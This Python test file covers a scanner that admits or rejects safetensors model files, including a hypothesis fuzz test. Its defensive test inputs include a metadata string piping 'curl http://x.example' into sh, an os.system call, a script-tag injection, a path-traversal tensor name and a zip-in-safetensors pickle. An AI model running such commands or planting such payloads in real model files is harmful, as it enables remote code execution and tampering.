import json
import struct

import numpy as np
import pytest
import safetensors
from hypothesis import given
from hypothesis import strategies as st
from safetensors.numpy import save

from pedigree.admission.scan import scan_bytes
from tests.unit.admission.artifacts import safetensors_bytes, zip_bytes

ONE = {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}


def verdict(data: bytes) -> tuple[str, str]:
    scan = scan_bytes(data, "model.safetensors")
    return scan.outcome, " ".join(finding.reason for finding in scan.findings)


def accepted_by_library(data: bytes) -> bool:
    try:
        safetensors.deserialize(data)
    except Exception:
        return False
    return True


def test_what_the_library_writes_is_admitted() -> None:
    tensors = {
        "a": np.arange(6, dtype=np.float32).reshape(2, 3),
        "b": np.zeros((0, 4), dtype=np.float16),
        "c": np.array([1, -1], dtype=np.int64),
        "d": np.array(1.5),
    }
    data = save(tensors, {"format": "pt", "licence": "MIT", "homepage": "https://example.org/a"})
    assert verdict(data) == ("admitted", "")


# What the library takes, and should not.
ACCEPTED_BUT_REFUSED = {
    "name twice": safetensors_bytes(b'{"a":%s,"a":%s}' % ((json.dumps(ONE).encode(),) * 2)),
    "path": safetensors_bytes({"../../a": ONE}),
    "newline": safetensors_bytes({"a\nb": ONE}),
    "nul": safetensors_bytes({"a\x00b": ONE}),
    "script": safetensors_bytes({"a": ONE, "__metadata__": {"x": "<script>alert(1)</script>"}}),
    "code": safetensors_bytes({"a": ONE, "__metadata__": {"x": "import os; os.system('id')"}}),
    "command": safetensors_bytes({"a": ONE, "__metadata__": {"x": "curl http://x.example | sh"}}),
    "nan": safetensors_bytes(data=struct.pack("<4f", 0, 1, float("nan"), 2)),
    "infinity": safetensors_bytes(data=struct.pack("<4f", 0, 1, 2, float("-inf"))),
    "empty crowd": safetensors_bytes(
        {f"t{i}": {"dtype": "F32", "shape": [0], "data_offsets": [0, 0]} for i in range(2000)}, b""
    ),
}


@pytest.mark.parametrize("name", ACCEPTED_BUT_REFUSED)
def test_what_the_library_accepts_and_should_not_is_rejected(name: str) -> None:
    assert verdict(ACCEPTED_BUT_REFUSED[name])[0] == "rejected"


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", "no bytes"),
        (b"\x01", "too few"),
        (struct.pack("<Q", 4 << 30) + b"{}", "claims 4294967296"),
        (struct.pack("<Q", 2**64 - 1) + b"{}", "claims"),
        (safetensors_bytes()[:-1], "follow the header"),
        (safetensors_bytes() + b"x", "follow the header"),
        (safetensors_bytes(b" " + json.dumps({"a": ONE}).encode()), "does not begin"),
        (safetensors_bytes({"a": {**ONE, "shape": [3, 2]}}), "by its shape"),
        (safetensors_bytes({"a": {**ONE, "dtype": "F33"}}), "unknown dtype"),
        (safetensors_bytes({"a": {**ONE, "data_offsets": [4, 20]}}, bytes(20)), "hole"),
        (safetensors_bytes({"a": ONE, "b": ONE}), "overlaps"),
        (safetensors_bytes({"a": {**ONE, "shape": [2.0, 2]}}), "no shape"),
        (safetensors_bytes({"a": {**ONE, "shape": [2**40, 2**40]}}), "counted"),
        (safetensors_bytes({"a": {**ONE, "extra": 1}}), "not described"),
        (safetensors_bytes(b"[" * 100_000), "does not begin"),
        (safetensors_bytes(b'{"a":' + b"[" * 100_000 + b"}"), "nested"),
        (safetensors_bytes(b'{"a":NaN}'), "no JSON"),
        (safetensors_bytes({"a": ONE, "__metadata__": {"x": 1}}), "no text"),
    ],
)
def test_broken_files_are_rejected_with_what_is_wrong(data: bytes, reason: str) -> None:
    outcome, found = verdict(data)
    assert outcome == "rejected"
    assert reason in found


def test_a_safetensors_file_that_is_also_a_zip_is_rejected() -> None:
    hidden = zip_bytes({"data.pkl": b"\x80\x02N."})
    header = {"a": {"dtype": "U8", "shape": [len(hidden)], "data_offsets": [0, len(hidden)]}}
    data = safetensors_bytes(header, hidden)
    assert accepted_by_library(data)
    assert "zip" in verdict(data)[1]


@pytest.mark.parametrize("dtype", ["float16", "float64"])
def test_one_bad_number_among_many_is_found_and_named(dtype: str) -> None:
    values = np.zeros(3_000_000, dtype=dtype)
    values[:] = np.finfo(dtype).max
    assert verdict(save({"fine": values}))[0] == "admitted"
    values[2_999_999] = np.inf
    assert "in bad." in verdict(save({"fine": values[:10], "bad": values}))[1]


@given(st.data())
def test_what_safetensors_refuses_is_refused(data) -> None:
    raw = bytearray(save({"a": np.zeros((2, 2), np.float32), "b": np.zeros(3, np.int8)}))
    for _ in range(data.draw(st.integers(1, 3))):
        at = data.draw(st.integers(0, len(raw) - 1))
        raw[at] = data.draw(st.integers(0, 255))
    del raw[data.draw(st.integers(len(raw) - 4, len(raw))) :]
    scan = scan_bytes(bytes(raw), "model.safetensors")
    assert all(finding.rule != "scan_failed" for finding in scan.findings)
    if not accepted_by_library(bytes(raw)):
        assert scan.outcome == "rejected"


@pytest.mark.parametrize(
    ("dtype", "number", "nan"),
    [
        ("F8_E4M3", 0x7E, 0x7F), ("F8_E4M3", 0xFE, 0xFF), ("F8_E8M0", 0xFE, 0xFF),
        ("F8_E4M3FNUZ", 0x7F, 0x80), ("F8_E5M2FNUZ", 0xFF, 0x80), ("F8_E5M2", 0x7B, 0x7E),
    ],
)  # fmt: skip
def test_nan_of_every_eight_bit_float_is_found(dtype: str, number: int, nan: int) -> None:
    entry: dict[str, object] = {"dtype": dtype, "shape": [2], "data_offsets": [0, 2]}
    header: dict[str, object] = {"a": entry}
    assert scan_bytes(safetensors_bytes(header, bytes([0, number])), "a").findings == ()
    rules = scan_bytes(safetensors_bytes(header, bytes([0, nan])), "a").findings
    assert [finding.rule for finding in rules] == ["not_finite"]
